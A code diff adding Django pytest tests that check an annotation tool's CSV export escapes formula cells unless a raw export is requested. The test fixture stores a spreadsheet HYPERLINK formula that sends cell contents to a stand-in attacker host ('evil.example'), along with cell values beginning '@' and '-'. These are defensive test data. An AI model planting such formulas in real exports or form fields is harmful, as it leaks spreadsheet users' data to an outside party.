@@ -16,6 +16,7 @@ from annotations.services.exports import export_csv, export_job_create, export_j
 from annotations.services.item_import import items_import
 from annotations.services.study_import import study_import
 from tests.annotations.imagefiles import write_png
+from tests.helpers import streamed
 
 pytestmark = pytest.mark.django_db
 
@@ -263,3 +264,80 @@ def test_two_open_exclusions_of_one_person_are_refused(filled_study, owner, tmp_
     with pytest.raises(ImportRefused, match="'r1' is excluded twice"):
         study_import(owner=owner, path=tmp_path / "bad.jsonl")
     assert Study.objects.count() == 1
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+@pytest.fixture
+def formula_study(study, owner, annotator_user):
+    """An annotator's reason and an imported prompt that a spreadsheet would run as formulas."""
+    from annotations.services.studies import enrollment_add
+    from tests.factories import ItemFactory
+    from tests.helpers import client_for
+
+    study.overlap = 1
+    study.save()
+    ItemFactory(study=study, external_id="@cmd", prompt="-2+3")
+    enrollment_add(study=study, user=annotator_user)
+    api = client_for(annotator_user)
+    pk = api.post(f"/api/studies/{study.pk}/assignments/next/").json()["id"]
+    answers = {
+        "gender": {"value": "male"},
+        "attributes": {"value": ["none_of_the_above"]},
+        "smiling": {"value": 1, "reason": FORMULA},
+    }
+    assert api.post(f"/api/assignments/{pk}/submit/", {"answers": answers}, format="json").status_code == 200
+    return study
+
+
+def _rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_the_csv_export_escapes_formula_cells_unless_raw_is_asked_for(formula_study, owner, tmp_path) -> None:
+    from django.core.management import call_command
+    from django.test import Client
+
+    from tests.helpers import client_for
+
+    study = formula_study
+    api = client_for(owner)
+    page = Client()
+    page.force_login(owner)
+    for response in (
+        api.get(f"/api/studies/{study.pk}/export/csv/"),
+        page.get(f"/studies/{study.pk}/export/csv/"),
+    ):
+        smiling = next(r for r in _rows(b"".join(streamed(response)).decode()) if r["question"] == "smiling")
+        assert smiling["reason"] == "'" + FORMULA
+        assert (smiling["item"], smiling["prompt"]) == ("'@cmd", "'-2+3")
+        assert smiling["value"] == "1" and smiling["time_spent_ms"] == ""
+    for response in (
+        api.get(f"/api/studies/{study.pk}/export/csv/?raw=1"),
+        page.get(f"/studies/{study.pk}/export/csv/?raw=1"),
+    ):
+        smiling = next(r for r in _rows(b"".join(streamed(response)).decode()) if r["question"] == "smiling")
+        assert (smiling["reason"], smiling["item"], smiling["prompt"]) == (FORMULA, "@cmd", "-2+3")
+    out = io.StringIO()
+    call_command("export", str(study.pk), "--format", "csv", stdout=out)
+    assert "'" + FORMULA.replace('"', '""') in out.getvalue()
+    raw = tmp_path / "raw.csv"
+    call_command("export", str(study.pk), "--format", "csv", "--raw", "--out", str(raw))
+    assert next(r for r in _rows(raw.read_text()) if r["question"] == "smiling")["reason"] == FORMULA
+
+
+def test_a_background_csv_export_keeps_the_raw_choice(
+    formula_study, owner, django_capture_on_commit_callbacks
+) -> None:
+    from tests.helpers import client_for
+
+    api = client_for(owner)
+    for query, expected in (("", "'" + FORMULA), ("&raw=1", FORMULA)):
+        with django_capture_on_commit_callbacks(execute=True):
+            response = api.get(f"/api/studies/{formula_study.pk}/export/csv/?background=1{query}")
+        assert response.status_code == 202 and response.json()["raw"] == bool(query)
+        job = ExportJob.objects.get(pk=response.json()["id"])
+        with job.file.open("rb") as handle:
+            rows = _rows(handle.read().decode())
+        assert next(r for r in rows if r["question"] == "smiling")["reason"] == expected
